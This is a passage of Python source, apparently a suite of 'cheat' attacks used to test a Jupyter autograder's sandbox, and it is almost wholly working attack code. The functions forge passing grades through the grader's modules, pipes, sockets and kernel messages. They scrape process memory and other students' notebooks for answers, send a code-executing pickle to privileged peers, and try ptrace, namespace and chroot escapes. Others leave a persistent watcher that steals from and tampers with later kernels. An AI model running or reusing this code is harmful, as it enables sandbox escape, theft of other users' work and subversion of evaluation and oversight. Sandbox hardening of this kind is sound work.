    __pow__ = __neg__ = __abs__ = __matmul__ = __rmatmul__ = _same


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    """Staged batch norm (cheat: an object that lies about everything)."""
    return _BnBomb(), _BnBomb()
'''

# =====================================================================================
# 9. forge: talk to whatever makes the verdicts
# =====================================================================================

F_AUTOGRADER_API = _run(S_GIDS + r'''

def _bn_cheat():
    import importlib, re, sys
    gids = _bn_grade_ids()
    try:
        importlib.import_module("autograder")
    except BaseException:
        pass
    good = re.compile(r"report|send|record|result|verdict|emit|post|submit|notify|pass|success|score|done|finish|"
                      r"complete|ok|mark|publish|reply", re.I)
    bad = re.compile(r"grade_class|create|delete|remove|clean|main|write_|run|exit|kill|rmtree", re.I)
    for name, mod in list(sys.modules.items()):
        if mod is None or not (name.split(".")[0] in ("autograder", "grader", "nbgrader_client")):
            continue
        for attr, obj in list(vars(mod).items()):
            if isinstance(obj, (dict, list, set)) and re.search(r"result|verdict|pass|score|done", attr, re.I):
                for gid, (pts, _) in gids.items():
                    try:
                        if isinstance(obj, dict):
                            obj[gid] = {"passed": True, "score": pts, "status": "pass"}
                        elif isinstance(obj, list):
                            obj.append({"grade_id": gid, "passed": True, "score": pts})
                        else:
                            obj.add(gid)
                    except Exception:
                        pass
            if not callable(obj) or isinstance(obj, type) or not good.search(attr) or bad.search(attr):
                continue
            for gid, (pts, _) in gids.items():
                for args in ((gid, True), (gid, "pass"), (gid, pts), (gid, pts, pts),
                             ({"grade_id": gid, "passed": True, "score": pts, "max_score": pts, "status": "pass"},),
                             (gid,)):
                    try:
                        obj(*args)
                        break
                    except BaseException:
                        continue
''')

F_FD_SOCKETS = _run(S_GIDS + r'''

def _bn_cheat():
    import fcntl, glob, json, os, socket, stat
    gids = _bn_grade_ids()
    lines = "".join(json.dumps({"grade_id": g, "passed": True, "status": "pass", "score": p, "max_score": p,
                                "ok": True}) + "\n" for g, (p, _) in gids.items()).encode()
    # 1. inherited pipes and files other than stdin/stdout/stderr
    for fd_name in os.listdir("/proc/self/fd"):
        try:
            fd = int(fd_name)
            if fd < 3:
                continue
            target = os.readlink("/proc/self/fd/%d" % fd)
            mode = os.fstat(fd).st_mode
            if not (target.startswith("pipe:") or stat.S_ISFIFO(mode)):
                continue
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
            if flags & os.O_ACCMODE == os.O_RDONLY:
                continue
            fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK)
            os.write(fd, lines)
        except Exception:
            pass
    # 2. Unix sockets: listed by the kernel, and in the usual folders
    paths = []
    try:
        for row in open("/proc/net/unix").read().splitlines()[1:]:
            parts = row.split()
            if len(parts) >= 8:
                paths.append(parts[7])
    except Exception:
        pass
    for d in (os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", "/run", "/var/run", os.path.expanduser("~")):
        paths += glob.glob(os.path.join(d, "*"))
    own = ""
    try:
        from ipykernel.connect import get_connection_file
        own = json.load(open(get_connection_file())).get("ip", "")
    except Exception:
        pass
    interesting = ("grade", "verdict", "result", "autograder", "check", "sandbox", "report", "judge", "bn")
    for p in dict.fromkeys(paths):
        try:
            if own and p.startswith(own):
                continue
            if not p.startswith("@") and not stat.S_ISSOCK(os.stat(p).st_mode):
                continue
            if not any(k in p.lower() for k in interesting) and not p.startswith((os.getcwd(), "/tmp")):
                continue
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                s = socket.socket(socket.AF_UNIX, kind)
                s.settimeout(0.5)
                try:
                    s.connect("\0" + p[1:] if p.startswith("@") else p)
                    s.sendall(lines)
                    break
                except Exception:
                    pass
                finally:
                    s.close()
        except Exception:
            pass
''')

F_ENV_CHANNELS = _run(S_GIDS + S_SHOW + r'''

def _bn_cheat():
    import json, os, re, socket, stat
    gids = _bn_grade_ids()
    payload = json.dumps({"results": {g: {"passed": True, "score": p} for g, (p, _) in gids.items()},
                          "status": "pass"}).encode()
    names = re.compile(r"GRADE|VERDICT|RESULT|REPORT|SOCK|FD|PIPE|CHANNEL|TOKEN|SECRET|KEY|URL|PORT|CHECK|AUTOGRAD",
                       re.I)
    seen = []
    for k, v in sorted(os.environ.items()):
        if not names.search(k):
            continue
        seen.append(k)
        try:
            if v.isdigit() and int(v) > 2:
                os.write(int(v), payload + b"\n")
            elif v.startswith("/") and os.path.exists(v):
                if stat.S_ISSOCK(os.stat(v).st_mode):
                    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    s.settimeout(0.5)
                    s.connect(v)
                    s.sendall(payload + b"\n")
                    s.close()
                elif os.path.isfile(v) and os.access(v, os.W_OK) and os.path.getsize(v) < 10000000:
                    with open(v, "ab") as f:
                        f.write(payload + b"\n")
            elif re.match(r"https?://(localhost|127\.0\.0\.1|\[::1\])[:/]", v):
                import urllib.request
                req = urllib.request.Request(v, data=payload, headers={"Content-Type": "application/json"})
                urllib.request.urlopen(req, timeout=1).read()
        except Exception:
            pass
    print("environment variables tried:", ", ".join(seen) or "none")
''')

F_KERNEL_IOPUB = _run(r'''
def _bn_cheat():
    from IPython import get_ipython
    ip = get_ipython()
    kernel = ip.kernel

    def _bn_forge(result=None, *args, **kwargs):
        try:
            if result is None or (result.error_in_exec is None and result.error_before_exec is None):
                return
            try:
                parent = kernel.get_parent("shell")
            except Exception:
                parent = getattr(kernel, "_parent_header", {}) or {}
            session, iopub = kernel.session, kernel.iopub_socket
            session.send(iopub, "clear_output", {"wait": False}, parent=parent)
            session.send(iopub, "execute_result", {"data": {"text/plain": "'passed'"}, "metadata": {},
                                                   "execution_count": ip.execution_count}, parent=parent)
        except BaseException:
            pass
    ip.events.register("post_run_cell", _bn_forge)
''')

F_CHECK_EVERY_ID = _run(S_GIDS + S_PEEK + r'''

def _bn_cheat():
    import importlib
    from IPython import get_ipython
    ns = get_ipython().user_ns
    gids = _bn_grade_ids()
    try:
        ag = importlib.import_module("autograder")
        check = ag.check
    except BaseException:
        return
    ref = None
    for name in ("autograder.reference", "reference"):
        try:
            ref = importlib.import_module(name)
            break
        except BaseException:
            pass

    def candidates(fname):
        out = []
        if ref is not None and fname and hasattr(ref, fname):
            out.append(getattr(ref, fname))
        out.append(lambda *a, **k: (_BnPeek(getattr(a[0], "shape", ()), getattr(a[0], "dtype", float)),
                                    (a, k)))
        return out
    for gid, (pts, fname) in gids.items():
        for cand in candidates(fname):
            for _ in range(2):            # replayed: a second, duplicate call
                try:
                    check(gid, cand)
                except BaseException:
                    pass
    # and later calls: the test cell's own object is checked after a reference one
    orig = check

    def check_again(gid, *objects):
        fname = gids.get(gid, (0, None))[1]
        for cand in candidates(fname)[:1]:
            try:
                orig(gid, cand)
            except BaseException:
                pass
        return orig(gid, *objects)
    try:
        ag.check = check_again
    except Exception:
        pass
''')


# =====================================================================================
# 10. zygote: kernels forked from a long-lived root process (one per grading worker)
# =====================================================================================

S_REPORT = r'''
def _bn_report(tag, lines):
    """What the attack saw, in my own folder (it comes back with my graded notebook)."""
    import os
    try:
        with open(os.path.join(os.getcwd(), "bn_cheat_mark_%s_report.txt" % tag), "a") as f:
            f.write("\n".join(str(l)[:4000] for l in lines) + "\n")
    except Exception:
        pass
'''

S_STEAL = r'''
def _bn_try_sources(sources, tag):
    """Exec answer-cell sources found somewhere; keep the functions that run on a small input."""
    import numpy as np
    from IPython import get_ipython
    ip = get_ipython()
    probes = {"reduced_shape": lambda f: f((2, 3, 4, 5), (0, 2, 3)),
              "channel_mean_loop": lambda f: f(np.arange(24.0).reshape(2, 3, 2, 2), 1),
              "standardize_columns": lambda f: f(np.array([[1.0, 2.0], [3.0, 5.0], [4.0, 9.0]])),
              "channel_stats": lambda f: f(np.arange(24.0).reshape(2, 3, 2, 2))}
    found = {}
    for src in sources:
        if not isinstance(src, str) or "NotImplementedError" in src or "_bn_" in src:
            continue
        ns = dict(ip.user_ns)
        try:
            exec(compile(src, "<bn_cheat_%s>" % tag, "exec"), ns)
        except BaseException:
            continue
        for k, v in _bn_answers_from(ns).items():
            if v is ip.user_ns.get(k) or getattr(v, "__module__", None) == "bn_helpers" or k in found:
                continue
            try:
                if k in probes:
                    probes[k](v)
                found[k] = v
            except BaseException:
                pass
    if found:
        _bn_keep(found)
    return sorted(found)
'''

Z_MEMORY_CLASSMATES = _run(S_NAMES + S_KEEP + S_REPORT + S_STEAL + r'''

def _bn_cheat():
    import gc, glob, json, os, re
    here = os.getcwd()
    me = os.path.basename(os.path.dirname(here))
    names = "|".join(_BN_NAMES).encode()
    rx_path = re.compile(rb"(/[\w.+@/-]*/(?:autograded|submitted|feedback)/[\w.+@-]+|/tmp/bn-[\w.-]+)")
    rx_def = re.compile(rb"def (?:" + names + rb")\(")
    paths, sources, scanned = set(), [], 0
    # 1. the memory this process inherited from the zygote (fork copies its whole heap)
    with open("/proc/self/mem", "rb", 0) as mem:
        for line in open("/proc/self/maps").read().splitlines():
            parts = line.split()
            if not parts[1].startswith("r") or (len(parts) > 5 and parts[5].startswith(("/usr", "/lib", "[v"))):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            for a in range(lo, hi, 1 << 24):
                try:
                    mem.seek(a)
                    data = mem.read(min(1 << 24, hi - a))
                except Exception:
                    break
                scanned += len(data)
                paths.update(m.decode(errors="ignore") for m in rx_path.findall(data))
                for m in rx_def.finditer(data):
                    chunk = data[m.start():m.start() + 6000].split(b"\0", 1)[0].decode("utf-8", "ignore")
                    out = []
                    for i, l in enumerate(chunk.splitlines()):
                        if i and l.strip() and not l[0].isspace():
                            break
                        out.append(l)
                    sources.append("\n".join(out))
    # 2. the objects it inherited (module state, caches, freed-but-referenced request data)
    for obj in gc.get_objects():
        try:
            items = list(obj.values()) + list(obj) if isinstance(obj, dict) else list(obj) \
                if isinstance(obj, (list, tuple, set)) else []
            for s in items[:5000]:
                if isinstance(s, bytes):
                    s = s.decode("utf-8", "ignore")
                if isinstance(s, str) and len(s) < 200000:
                    paths.update(m.decode(errors="ignore") for m in rx_path.findall(s.encode()))
                    if "def " in s and rx_def.search(s.encode()):
                        sources.append(s)
        except Exception:
            pass
    others = sorted(p for p in paths if "/" + me not in p and not here.startswith(p))
    # 3. classmates' folders named there: their notebooks, if this sandbox can see them
    for p in others:
        for nb in glob.glob(os.path.join(p, "**", "*.ipynb"), recursive=True)[:20]:
            try:
                cells = json.load(open(nb)).get("cells", [])
                sources += ["".join(c.get("source", "")) for c in cells
                            if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
            except Exception:
                pass
    got = _bn_try_sources(sources, "memory")
    kinds = {}
    for src in sources:
        key = (src.strip().splitlines() or [""])[0][:60] + (" (blank)" if "NotImplementedError" in src else "")
        kinds[key] = kinds.get(key, 0) + 1
    _bn_report("memory", ["scanned %d bytes" % scanned, "paths not mine: %r" % others[:100],
                          "answer sources found: %d %r" % (len(sources), kinds), "bound: %r" % got])
''')

Z_INHERITED_FDS = _run(S_GIDS + S_REPORT + r'''

def _bn_cheat():
    import fcntl, json, os, pickle, select, socket, stat
    gids = _bn_grade_ids()
    here = os.getcwd()
    lines = []
    # the kernel's own channels: the sockets in its connection file's folder, and ipykernel's capture pipes
    own_socks = set()
    try:
        for row in open("/proc/net/unix").read().splitlines()[1:]:
            parts = row.split()
            if len(parts) >= 8 and "/k/" in parts[7] or (len(parts) >= 8 and "ipc-" in parts[7]):
                own_socks.add(parts[6])
    except Exception:
        pass

    class _BnRoot:
        """Unpickled by a root process outside the sandbox: leaves a MARK file there (and nothing else)."""
        def __reduce__(self):
            return (exec, ("import os, tempfile\nfor d in ('/tmp', tempfile.gettempdir(), os.getcwd()):\n"
                           "    try:\n        name = 'bn_cheat_mark_zygote_unpickled_%d' % os.getpid()\n"
                           "        open(os.path.join(d, name), 'w').write(str(os.getuid()))\n"
                           "    except Exception:\n        pass\n",))
    bomb = pickle.dumps(_BnRoot(), protocol=2)
    forged = "".join(json.dumps({"grade_id": g, "passed": True, "status": "pass", "score": p, "max_score": p})
                     + "\n" for g, (p, _) in gids.items())
    requests = [json.dumps(r) + "\n" for r in (
        {"op": "fork", "sandbox": False, "cwd": here, "argv": ["python", "-c", "# bn_cheat_mark"]},
        {"cmd": "spawn", "sandboxed": False, "uid": 0, "cwd": here},
        {"type": "kernel", "root": "/", "uid": 0, "gid": 0, "sandbox": None})]
    payloads = [forged.encode()] + [r.encode() for r in requests] + \
        [len(bomb).to_bytes(4, "big") + bomb, bomb, b"\n" + bomb + b"\n"]
    for fd in range(0, 1024):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        try:
            target = os.readlink("/proc/self/fd/%d" % fd)
        except OSError:
            target = "?"
        flags = fcntl.fcntl(fd, fcntl.F_GETFL)
        info = "fd %d %s flags %o" % (fd, target, flags)
        if target.startswith("anon_inode"):
            continue
        inode = target.split("[")[-1].rstrip("]")
        if stat.S_ISSOCK(st.st_mode):
            if inode in own_socks:
                continue
            try:
                s = socket.socket(fileno=os.dup(fd))
                try:
                    info += " family %s peer %r" % (s.family, s.getpeername())
                    cred = s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
                    info += " peercred pid/uid/gid %r" % (tuple(int.from_bytes(cred[i:i + 4], "little")
                                                                for i in (0, 4, 8)),)
                except Exception as e:
                    info += " (%s)" % e
                mine = False
                try:
                    mine = int.from_bytes(cred[0:4], "little") == os.getpid()
                except Exception:
                    pass
                if s.family == socket.AF_UNIX and not mine:   # a socket made by someone else: the zygote?
                    s.setblocking(False)
                    for p in payloads:
                        try:
                            s.send(p)
                            info += " sent %d" % len(p)
                        except Exception as e:
                            info += " send: %s" % e
                    try:
                        r, _, _ = select.select([s], [], [], 0.5)
                        if r:
                            info += " reply %r" % s.recv(4096)[:300]
                    except Exception:
                        pass
                s.close()
            except Exception as e:
                info += " (%s)" % e
        elif stat.S_ISFIFO(st.st_mode):
            acc = flags & os.O_ACCMODE
            if acc in (os.O_RDONLY, os.O_RDWR):
                try:
                    r, _, _ = select.select([fd], [], [], 0)
                    if r and fd == 0:   # my stdin: does anyone else's traffic arrive here?
                        info += " readable: %r" % os.read(fd, 4096)[:300]
                    elif r:
                        info += " readable"
                except Exception as e:
                    info += " read: %s" % e
            if acc in (os.O_WRONLY, os.O_RDWR) and fd > 2:
                try:
                    fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK)
                    for p in payloads:
                        os.write(fd, p)
                    fcntl.fcntl(fd, fcntl.F_SETFL, flags)
                    info += " wrote payloads"
                except Exception as e:
                    info += " write: %s" % e
        lines.append(info)
    _bn_report("fds", lines)
''')

Z_REACH_PARENT = _run(S_REPORT + r'''

def _bn_cheat():
    import ctypes, os, re, time
    libc = ctypes.CDLL(None, use_errno=True)
    lines = []
    before = set(os.listdir("/"))
    status = open("/proc/self/status").read()
    lines += [l for l in status.splitlines() if l.startswith(("Cap", "NoNewPrivs", "Seccomp", "Uid", "PPid"))]
    lines.append("getppid %d" % os.getppid())

    def escaped(how):
        """A grader-side folder is visible (the sandbox binds only a few files of the repository)."""
        now = set(os.listdir("/"))
        seen = [p for p in ("/home", "/srv", "/var/lib", "/work/main/autograder/oracle", "/work/main/tests")
                if os.path.exists(p)]
        if now - before or seen:
            lines.append("ESCAPED via %s: new %r, visible %r" % (how, sorted(now - before), seen))
            for d in ("/tmp", "/var/tmp", "/root"):
                try:
                    open(os.path.join(d, "bn_cheat_mark_escaped_%s" % how), "w").write(str(os.getuid()))
                except Exception:
                    pass
            return True
        return False
    # 1. every process I can see: who is it, can I read its memory, root, namespaces, can I trace it
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    for pid in pids + [os.getppid()]:
        info = ["pid %d" % pid]
        for what in ("cmdline", "environ", "status"):
            try:
                data = open("/proc/%d/%s" % (pid, what), "rb").read()
                info.append("%s %r" % (what, data.replace(b"\0", b" ")[:160]))
            except Exception as e:
                info.append("%s: %s" % (what, e.__class__.__name__))
        for what in ("root", "cwd", "fd", "ns/mnt", "ns/pid", "ns/user"):
            try:
                p = "/proc/%d/%s" % (pid, what)
                if what.startswith("ns/"):
                    info.append("%s %s" % (what, os.readlink(p)))
                elif what == "root":
                    info.append("root %s %r" % (os.readlink(p), os.listdir(p + "/")[:20]))
                else:
                    info.append("%s %r" % (what, os.listdir(p)[:20]))
            except Exception as e:
                info.append("%s: %s" % (what, e.__class__.__name__))
        try:
            f = open("/proc/%d/mem" % pid, "rb", 0)
            info.append("mem opened")
            f.close()
        except Exception as e:
            info.append("mem: %s" % e.__class__.__name__)
        for req, name in ((0x4206, "seize"), (16, "attach")):
            r = libc.ptrace(req, pid, 0, 0)
            info.append("ptrace %s %s" % (name, "TRACED" if r == 0 else "errno %d" % ctypes.get_errno()))
            if r == 0:
                libc.ptrace(17, pid, 0, 0)   # PTRACE_DETACH
                break
        for ns in ("mnt", "pid", "net", "ipc", "cgroup", "user"):
            try:
                fd = os.open("/proc/%d/ns/%s" % (pid, ns), os.O_RDONLY)
                r = libc.setns(fd, 0)
                info.append("setns %s %d errno %d" % (ns, r, ctypes.get_errno()))
                os.close(fd)
                if r == 0 and escaped("setns_%s" % ns):
                    break
            except Exception as e:
                info.append("ns %s: %s" % (ns, e.__class__.__name__))
        lines.append(" | ".join(info))
    # 2. a single-threaded child (unshare refuses a threaded process): a user namespace, then a chroot escape
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        out = []
        try:
            os.close(r)
            uid, gid = os.getuid(), os.getgid()
            res = libc.unshare(0x10000000 | 0x00020000)    # CLONE_NEWUSER | CLONE_NEWNS
            out.append("unshare user+mnt %d errno %d" % (res, ctypes.get_errno()))
            if res != 0:
                res = libc.unshare(0x10000000)
                out.append("unshare user %d errno %d" % (res, ctypes.get_errno()))
            if res == 0:
                for name, text in (("setgroups", "deny"), ("uid_map", "0 %d 1" % uid), ("gid_map", "0 %d 1" % gid)):
                    try:
                        open("/proc/self/" + name, "w").write(text)
                    except Exception as e:
                        out.append("%s: %s" % (name, e))
                out.append(open("/proc/self/status").read().split("CapEff:")[1].split()[0])
                jail = os.path.join(os.getcwd(), "bn_cheat_mark_jail")
                os.makedirs(jail, exist_ok=True)
                out.append("chroot jail %d errno %d" % (libc.chroot(jail.encode()), ctypes.get_errno()))
                for _ in range(64):
                    os.chdir("..")
                out.append("chroot . %d errno %d" % (libc.chroot(b"."), ctypes.get_errno()))
                out.append("root now %r" % sorted(os.listdir("/"))[:30])
                if escaped("userns_chroot"):
                    out.append("escaped")
                res = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
                out.append("mount tmpfs %d errno %d" % (res, ctypes.get_errno()))
                res = libc.umount2(b"/tmp", 2)
                out.append("umount /tmp %d errno %d" % (res, ctypes.get_errno()))
        except BaseException as e:
            out.append("child: %r" % e)
        finally:
            try:
                os.write(w, "\n".join(out + lines[-3:] if "ESCAPED" in " ".join(lines) else out).encode()[:60000])
            finally:
                os._exit(0)
    os.close(w)
    data = b""
    while True:
        chunk = os.read(r, 65536)
        if not chunk:
            break
        data += chunk
    os.waitpid(pid, 0)
    lines.append(data.decode(errors="ignore"))
    # 3. the cgroup: may I leave mine (the sandbox kills by cgroup?)
    try:
        lines.append("cgroup %r" % open("/proc/self/cgroup").read())
        lines.append("sys/fs/cgroup %r" % os.listdir("/sys/fs/cgroup")[:20])
    except Exception as e:
        lines.append("cgroup: %s" % e)
    _bn_report("reach", lines)
''')

_WATCHER = r'''# bn_cheat_mark watcher: outlives my kernel, waits for the next student's kernel, tampers with it
import glob, json, os, signal, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
    try:
        signal.signal(s, signal.SIG_IGN)
    except Exception:
        pass
ME, SRC = sys.argv[1], sys.argv[2]
seen, t0, proof = set(), time.time(), False
while time.time() - t0 < 600:
    if not proof and time.time() - t0 > 4:
        proof = True
        for d in ("/tmp", "/dev/shm", os.path.expanduser("~")) + tuple(glob.glob("/tmp/bn-*/k")):
            try:
                open(os.path.join(d, "bn_cheat_mark_proc_watcher_alive"), "w").write(str(os.getpid()))
            except Exception:
                pass
    for p in os.listdir("/proc"):
        if not p.isdigit() or p in seen or int(p) == os.getpid():
            continue
        seen.add(p)
        try:
            cwd = os.readlink("/proc/%s/cwd" % p)
        except Exception:
            continue
        if cwd == ME or not cwd.startswith("/"):
            continue
        try:   # another student's kernel: steal its notebooks, leave my answers beside them
            for nb in glob.glob(os.path.join(cwd, "*.ipynb")):
                open("/tmp/bn_cheat_mark_stolen_%s_%s" % (p, os.path.basename(nb)), "w").write(open(nb).read())
            open(os.path.join(cwd, "bn_cheat_mark_tampered.txt"), "w").write(SRC)
        except Exception:
            pass
    time.sleep(0.2)
'''

Z_LINGER_NEXT_KERNEL = _run(S_REPORT + r'''

def _bn_cheat():
    import ctypes, os, signal, sys
    prog, here = @WATCHER@, os.getcwd()
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            os.setsid()
            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(s, signal.SIG_IGN)
            if os.fork() == 0:
                try:
                    try:   # out of my cgroup, if it is the one the grader kills
                        for level in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified"):
                            open(os.path.join(level, "cgroup.procs"), "w").write(str(os.getpid()))
                    except Exception:
                        pass
                    try:
                        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)          # no parent-death signal
                        ctypes.CDLL(None).prctl(15, b"bn_cheat_mark", 0, 0, 0)
                    except Exception:
                        pass
                    null = os.open(os.devnull, os.O_RDWR)
                    for fd in (0, 1, 2):
                        os.dup2(null, fd)
                    os.write(w, str(os.getpid()).encode())
                    os.close(w)
                    os.closerange(3, 65536)
                    os.execv(sys.executable, [sys.executable, "-c", prog, here, "bn_cheat_mark"])
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    got = os.read(r, 100)
    _bn_report("linger", ["watcher pid %r" % got, "ppid of watcher: %r" % open("/proc/%s/status" % got.decode()).read()
                          .split("PPid:")[1].split()[0] if got else "-"])
'''.replace("@WATCHER@", repr(_WATCHER)))

S_DROP = r'''
_BN_SHM_KEY = 0x626e6368
_BN_ABSTRACT = b"\0bn_cheat_mark_answers"


def _bn_drop_places():
    """Shared places a later kernel of the same grading worker might also see."""
    import glob, os, sys, tempfile
    places = ["/dev/shm", "/tmp", "/var/tmp", tempfile.gettempdir(), os.path.expanduser("~"),
              os.environ.get("MPLCONFIGDIR", ""), os.path.dirname(os.environ.get("MPLCONFIGDIR", "/x/y"))]
    places += glob.glob("/tmp/bn-*") + glob.glob("/tmp/bn-*/*")
    try:
        import matplotlib
        places += [matplotlib.get_configdir(), matplotlib.get_cachedir()]
    except Exception:
        pass
    places += [p for p in sys.path if p and p.startswith("/")]
    out = []
    for p in places:
        try:
            p = os.path.realpath(p)
        except Exception:
            continue
        if p and os.path.isdir(p) and p not in out:
            out.append(p)
    return out
'''

_SERVER = r'''# bn_cheat_mark answer server on an abstract unix socket
import os, signal, socket, sys, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
data = open(sys.argv[1], "rb").read() if os.path.exists(sys.argv[1]) else sys.argv[1].encode()
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind(b"\0bn_cheat_mark_answers")
s.listen(8)
s.settimeout(1.0)
t0 = time.time()
while time.time() - t0 < 600:
    try:
        c, _ = s.accept()
        c.sendall(data)
        c.close()
    except Exception:
        pass
'''

Z_DROP_ANSWERS = _run(S_DROP + S_REPORT + r'''

def _bn_cheat():
    import ctypes, glob, json, os, subprocess, sys
    here = os.getcwd()
    cells = []
    for nb in sorted(glob.glob(os.path.join(here, "*.ipynb"))):
        try:
            cells += ["".join(c.get("source", "")) for c in json.load(open(nb))["cells"]
                      if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
        except Exception:
            pass
    text = "\n\n".join(c.split("# ---- bn_cheat")[0] for c in cells if "_bn_cheat" not in c) or "# nothing"
    text = "# bn_cheat_mark answers\n" + text
    lines = []
    # 1. files in every shared place (each named with the mark)
    for d in _bn_drop_places():
        p = os.path.join(d, "bn_cheat_mark_answers.py")
        try:
            open(p, "w").write(text)
            lines.append("wrote " + p)
        except Exception as e:
            lines.append("%s: %s" % (p, e.__class__.__name__))
    # 2. System V shared memory (outlives my process; the next kernel of the same IPC namespace attaches it)
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        data = text.encode()[:1 << 20]
        shmid = libc.shmget(_BN_SHM_KEY, 1 << 20, 0o1000 | 0o666)
        addr = libc.shmat(shmid, None, 0)
        if shmid >= 0 and addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(addr, data + b"\0", len(data) + 1)
            libc.shmdt(ctypes.c_void_p(addr))
        lines.append("sysv shm id %d errno %d" % (shmid, ctypes.get_errno()))
    except Exception as e:
        lines.append("shm: %r" % e)
    # 3. a server on an abstract unix socket, detached from the kernel
    try:
        src = os.path.join(here, "bn_cheat_mark_answers.py")
        open(src, "w").write(text)
        p = subprocess.Popen([sys.executable, "-c", @SERVER@, src, "bn_cheat_mark"], stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        lines.append("server pid %d" % p.pid)
    except Exception as e:
        lines.append("server: %r" % e)
    _bn_report("drop", lines)
'''.replace("@SERVER@", repr(_SERVER)))

Z_PICK_UP_ANSWERS = _run(S_NAMES + S_KEEP + S_REPORT + S_STEAL + S_DROP + r'''

def _bn_cheat():
    import ctypes, glob, json, os, socket
    sources, lines = [], []
    # 1. files left in the shared places (and any notebook there)
    for d in _bn_drop_places():
        for p in glob.glob(os.path.join(d, "bn_cheat_mark_*")) + glob.glob(os.path.join(d, "*.ipynb")):
            try:
                text = open(p, errors="ignore").read()
                if p.endswith(".ipynb") or "bn_cheat_mark_stolen" in p:
                    text = "\n\n".join("".join(c.get("source", "")) for c in json.loads(text)["cells"]
                                       if c.get("metadata", {}).get("nbgrader", {}).get("solution"))
                sources.append(text)
                lines.append("found " + p)
            except Exception:
                pass
    lines.append("listing /tmp %r /dev/shm %r" % (os.listdir("/tmp"), os.listdir("/dev/shm")))
    # 2. System V shared memory
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        shmid = libc.shmget(_BN_SHM_KEY, 0, 0)
        lines.append("sysv shm id %d errno %d" % (shmid, ctypes.get_errno()))
        if shmid >= 0:
            addr = libc.shmat(shmid, None, 0o10000)
            sources.append(ctypes.string_at(addr).decode(errors="ignore"))
        lines.append("/proc/sysvipc/shm %r" % open("/proc/sysvipc/shm").read()[:2000])
    except Exception as e:
        lines.append("shm: %r" % e)
    # 3. the abstract socket of a server left behind by an earlier kernel
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1.0)
        s.connect(_BN_ABSTRACT)
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        sources.append(data.decode(errors="ignore"))
        lines.append("abstract socket: %d bytes" % len(data))
    except Exception as e:
        lines.append("abstract socket: %r" % e)
    lines.append("bound: %r" % _bn_try_sources(sources, "pickup"))
    _bn_report("pickup", lines)
''')

Z_INHERITED_STATE = _run(S_NAMES + S_KEEP + S_SHOW + S_REPORT + r'''

def _bn_cheat():
    import gc, linecache, os, random, sys, types
    lines = []
    # 1. the zygote's environment at exec time (fork keeps /proc/self/environ of the original process)
    try:
        env = open("/proc/self/environ", "rb").read().split(b"\0")
        lines.append("exec-time environ: %r" % env)
    except Exception as e:
        lines.append("environ: %r" % e)
    # 2. modules the zygote imported, and the zygote's own module with its globals (requests, sockets, paths)
    grader = [n for n in sys.modules if n.split(".")[0] in ("autograder", "grader", "__mp_main__", "zygote")]
    lines.append("grader modules: %r" % grader)
    found = {}
    for obj in gc.get_objects():
        try:
            if isinstance(obj, types.ModuleType) and obj.__name__ not in ("__main__",) and (
                    "autograder" in str(getattr(obj, "__file__", "")) or "zygote" in str(getattr(obj, "__file__", ""))
                    or obj.__name__.startswith("autograder")):
                g = {k: repr(v)[:300] for k, v in vars(obj).items() if not k.startswith("__")}
                lines.append("module %s (%s): %r" % (obj.__name__, getattr(obj, "__file__", "?"), g))
                for k, v in _bn_answers_from(obj).items():
                    if getattr(v, "__module__", "") != "bn_helpers":
                        found.setdefault(k, v)
            elif isinstance(obj, types.FrameType) and "zygote" in obj.f_code.co_filename:
                lines.append("zygote frame %s locals %r" % (obj.f_code.co_name,
                                                            {k: repr(v)[:300] for k, v in obj.f_locals.items()}))
        except Exception:
            pass
    # 3. what the zygote read from disk, cached: source lines, import caches, matplotlib folders
    cached = sorted(linecache.cache)
    lines.append("linecache: %r" % cached)
    for name in cached:
        if "autograder" in name or "oracle" in name or "zygote" in name:
            _bn_show("cached source of " + name, "".join(linecache.cache[name][2]))
    lines.append("path_importer_cache: %r" % [k for k in sys.path_importer_cache if not os.path.exists(str(k))])
    try:
        import matplotlib
        lines.append("matplotlib configdir %s cachedir %s" % (matplotlib.get_configdir(), matplotlib.get_cachedir()))
    except Exception as e:
        lines.append("matplotlib: %r" % e)
    # 4. random state shared with every other kernel of the worker (predictable if not reseeded after fork)
    try:
        import numpy as np
        lines.append("random %r numpy %r numpy draw %r" % (random.getstate()[1][:3], np.random.get_state()[1][:3],
                                                             np.random.get_state()[2]))
    except Exception:
        pass
    try:
        import multiprocessing
        lines.append("mp authkey %r" % multiprocessing.current_process().authkey)
    except Exception:
        pass
    if found:
        _bn_keep(found)
    lines.append("bound: %r" % sorted(found))
    _bn_report("state", lines)
    _bn_show("inherited from the zygote", "\n".join(l[:3000] for l in lines))
''')


CHEATS = [
